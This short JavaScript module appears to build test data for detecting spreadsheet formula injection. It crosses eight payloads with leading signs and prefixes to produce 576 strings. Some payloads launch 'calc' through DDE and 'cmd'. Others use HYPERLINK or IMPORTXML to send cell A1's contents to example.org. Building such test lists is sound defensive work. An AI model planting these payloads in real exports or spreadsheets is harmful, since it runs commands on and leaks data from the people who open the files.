const COMMANDS = [
	'1+1',
	"cmd|' /C calc'!A0",
	'HYPERLINK("https://example.org/?x="&A1,"open")',
	'IMPORTXML(CONCAT("https://example.org/?v=",A1),"//a")',
	'SUM(A1:A9)*cmd|"/c calc"!A1',
	'@SUM(1+1)',
	'DDE("cmd";"/C calc";"x")',
	'1,2"\n=3'
];
const SIGNS = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];
const BEFORE = ['', ' ', '\t', '\r', '\n', '\u00a0', '\0', "'", "''"];

/** Texts that some spreadsheet takes for a formula: 576 of them. */
export const FORMULAS = COMMANDS.flatMap((command) =>
	SIGNS.flatMap((sign) => BEFORE.map((before) => `${before}${sign}${command}`))
);
